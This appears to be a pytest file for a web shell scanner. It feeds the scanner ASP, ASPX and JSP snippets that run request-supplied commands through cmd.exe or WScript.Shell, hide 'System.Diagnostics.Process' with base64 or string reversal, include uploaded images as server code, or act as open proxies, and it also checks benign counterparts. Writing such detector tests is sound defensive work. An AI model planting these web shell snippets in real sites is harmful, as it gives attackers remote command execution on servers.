def test_vbnet_callbyname_run():
    assert_shell('<%@ Page Language="VB" %><%\nDim o = CreateObject("WScript.Shell")\n'
                 'CallByName(o, "Run", CallType.Method, Request("c"))\n%>', "x.aspx")


def test_registry_write_of_request_values():
    assert_shell('<%\nSet s = CreateObject("WScript.Shell")\ns.RegWrite Request("k"), Request("v")\n%>')


def test_benign_json_deserialise_without_type_names():
    assert_benign('<%@ Page Language="C#" %><% var o = Newtonsoft.Json.JsonConvert.DeserializeObject<Order>('
                  'Request.Form["j"]); Response.Write(o.Id); %>', "x.aspx")


_REFLECT = ('<%@ Page Language="C#" %><% Type t = Type.GetType({name}); t.GetMethod("Start", new Type[] {{'
            ' typeof(string), typeof(string) }}).Invoke(null, new object[] {{ "cmd.exe", "/c " + Request["c"] }}); %>')


@pytest.mark.parametrize("name", [
    'string.Concat("System.Diagn", "ostics.Process")',
    'string.Join("", new string[] { "System.Diagn", "ostics.Process" })',
    'System.Text.Encoding.UTF8.GetString(Convert.FromBase64String("U3lzdGVtLkRpYWdub3N0aWNzLlByb2Nlc3M="))',
    'new string("ssecorP.scitsongaiD.metsyS".Reverse().ToArray())',
])
def test_reflective_process_start_with_a_built_type_name(name):
    assert_shell(_REFLECT.format(name=name), "x.aspx")


@pytest.mark.parametrize("code", [
    '<script runat="server">string Cmd { get { return Request.Form["c"]; } } void Page_Load(object s, EventArgs e) {'
    ' System.Diagnostics.Process.Start("cmd.exe", "/c " + Cmd); }</script>',
    '<% Func<string, System.Diagnostics.Process> run = c => System.Diagnostics.Process.Start("cmd.exe", "/c " + c);'
    ' run(Request["c"]); %>',
    '<script runat="server">void Get(out string v) { v = Request["c"]; } void Page_Load(object s, EventArgs e) {'
    ' string c; Get(out c); System.Diagnostics.Process.Start("cmd.exe", c); }</script>',
    '<script runat="server">string cmd; void Page_Load(object s, EventArgs e) { cmd = Request["c"]; Run(); }'
    ' void Run() { System.Diagnostics.Process.Start("cmd.exe", "/c " + cmd); }</script>',
])
def test_taint_through_csharp_properties_lambdas_and_out_params(code):
    assert_shell('<%@ Page Language="C#" %>' + code, "x.aspx")


def test_vbscript_byref_argument_filled_with_request_data():
    assert_shell('<%\nSub G(ByRef v)\n v = Request("c")\nEnd Sub\nDim x\nG x\nExecute x\n%>')


# --- hostile input to the new shapes: bounded time, no crash ---------------------------------------

HOSTILE = {
    "relay-long-host": ("x.asp", '<%\nSet o = CreateObject("MSXML2.ServerXMLHTTP")\nx = "http://' + "a." * 400000
                        + '\nResponse.Write Request.ServerVariables("HTTP_HOST")\n%>'),
    "relay-many-strings": ("x.asp", '<%\nua = Request.ServerVariables("HTTP_USER_AGENT")\n'
                           'Set o = CreateObject("MSXML2.ServerXMLHTTP")\n' + ('x = "' + "b" * 39 + '"\n') * 20000 + "%>"),
    "object-tag-attributes": ("x.asp", "<object runat=server " + "a=b " * 300000 + "><% x = 1 %>"),
    "object-tags": ("x.asp", '<object runat=server id=a progid="WScript.Shell">' * 40000 + '<% a.Run Request("c") %>'),
    "csharp-properties": ("x.aspx", '<%@ Page Language="C#" %><% ' + "string P { get { " * 20000 + " %>"),
    "csharp-lambdas": ("x.aspx", '<%@ Page Language="C#" %><% ' + "f = (a, b) => g = c => " * 30000 + " %>"),
    "getref": ("x.asp", "<%\nSub Go(c)\nExecute c\nEnd Sub\n" + 'Set f = GetRef("Go")\n' * 30000 + "%>"),
    "java-lambdas": ("x.jsp", "<% " + "f(a -> g(b -> h(c -> " * 3000 + "x" + ")))" * 3000 + "; %>"),
    "java-arrows": ("x.jsp", "<% " + "(a, b, c, d) -> " * 50000 + "; %>"),
    "annotations": ("X.java", "package a; class X { void m(" + "@RequestParam String a, " * 30000
                    + ") { Runtime.getRuntime().exec(a); } }"),
    "javassist": ("X.java", "package a; class X { void m() { " + 'm.insertBefore("a(;" + ' * 20000 + '"x"); } }'),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_input_to_the_variant_shapes_is_bounded(case):
    import time

    name, text = HOSTILE[case]
    t0 = time.process_time()
    hits(text, name)  # never raises
    assert time.process_time() - t0 < 4.0


@pytest.mark.parametrize("text,name", [
    ('<!--#include file="up/1.jpg"-->', "x.asp"),
    ('<!--#include virtual="/files/a.rar" -->', "x.asp"),
    ("<!--#include file='avatar.png'-->", "x.aspx"),
    ('<%@ include file="a.gif" %>', "x.jsp"),
    ('<!-- #include file="doc/manual.pdf" -->', "x.asp"),
])
def test_server_side_include_of_an_upload(text, name):
    assert_shell(text, name)


@pytest.mark.parametrize("inc", ["inc/conn.asp", "footer.txt", "1.jpg.asp", "header.inc"])
def test_benign_includes_of_code_and_text(inc):
    assert_benign(f'<!--#include file="{inc}"--><% Response.Write "hi" %>')


@pytest.mark.parametrize("tag", ['<script language="vbscript" runat="server" src="/upload/1.jpg"></script>',
                                 "<SCRIPT RUNAT=SERVER LANGUAGE=JSCRIPT SRC='a.gif'></SCRIPT>"])
def test_server_script_block_loading_an_upload(tag):
    assert_shell(tag)


def test_benign_client_script_from_an_image_named_path():
    assert_benign('<script src="/js/lightbox.js"></script><script src="banner.gif.js"></script><% x = 1 %>')


# --- open proxies ------------------------------------------------------------------------------------------

@pytest.mark.parametrize("text,name", [
    ('<%\nu = Request.Form("url")\nSet h = Server.CreateObject("Microsoft.XMLHTTP")\nh.Open "GET", u, False\nh.Send\n'
     "Response.Write Server.HTMLEncode(h.ResponseText)\n%>", "x.asp"),
    ('<%@ Language="JScript" %><% var x = Server.CreateObject("MSXML2.ServerXMLHTTP"); x.open("GET",'
     ' String(Request.QueryString("url")), false); x.send(); Response.BinaryWrite(x.responseBody); %>', "x.asp"),
    ('<%@ Page Language="C#" %><% Response.Write(new System.Net.WebClient().DownloadString(Request["u"])); %>', "x.aspx"),
])
def test_request_proxy(text, name):
    h = assert_shell(text, name)
    assert h.rule.endswith("request-proxy")


@pytest.mark.parametrize("text,name", [
    ('<%\nSet h = Server.CreateObject("Microsoft.XMLHTTP")\nh.Open "GET", "http://api.example.com/search?q=" &'
     ' Server.URLEncode(Request("q")), False\nh.Send\nResponse.Write h.ResponseText\n%>', "x.asp"),
    ('<%@ Page Language="C#" %><% Response.Write(new System.Net.WebClient().DownloadString("https://feeds.example.com/"'
     ' + Request["feed"])); %>', "x.aspx"),
    ('<%\nSet h = Server.CreateObject("Microsoft.XMLHTTP")\nh.Open "GET", "http://weather.example/today", False\n'
     'h.Send\nResponse.Write h.ResponseText & Server.HTMLEncode(Request("city"))\n%>', "x.asp"),
])
def test_benign_api_calls_to_a_fixed_host(text, name):
    assert_benign(text, name)


def test_hostile_many_unclosed_fetches_are_bounded():
    import time

    text = ('<%@ Language="JScript" %><% var x = Server.CreateObject("MSXML2.ServerXMLHTTP");'
            + ' x.open("GET", Request("u"), ' * 50000 + " Response.Write(x.responseText); %>")
    t0 = time.process_time()
    hits(text, "x.asp")
    assert time.process_time() - t0 < 4.0
